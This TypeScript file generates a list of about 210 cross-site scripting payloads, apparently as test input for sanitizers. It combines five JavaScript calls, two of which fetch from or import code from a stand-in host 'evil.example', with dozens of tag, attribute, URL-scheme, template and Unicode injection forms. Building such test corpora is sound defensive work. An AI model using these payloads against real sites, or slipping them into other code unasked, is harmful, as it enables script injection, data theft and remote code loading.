// In: nothing. Out: texts that would do harm in a page that put them in as they are. The one idea: what breaks out of one
// place is harmless in another, so each is tried in all places.

const calls = [
  'alert(1)',
  'globalThis.harmed=1',
  'fetch(`//evil.example`)',
  'import(`//evil.example/x.js`)',
  'eval(name)',
];

/** Ways of getting code to run, from the well-known lists: tags, attributes, addresses, entities, comments, styles. */
const shapes: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</ScRiPt>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `" onmouseover="${call}`,
  (call) => `' onfocus='${call}' autofocus='`,
  (call) => `\` onclick=\`${call}`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror=&#97;${call.slice(1)}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<math><a href="javascript:${call}">x</a></math>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="java\tscript:${call}">x</a>`,
  (call) => `<a href=" javascript:${call}">x</a>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}">x</button>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<link rel=import href="javascript:${call}">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<div style="background:url(javascript:${call})">`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `\u2028</script><script>${call}`,
  (call) => `\u202e<script>${call}</script>`,
];

/** More than two hundred of them. */
export const payloads = shapes.flatMap((shape) => calls.map(shape));
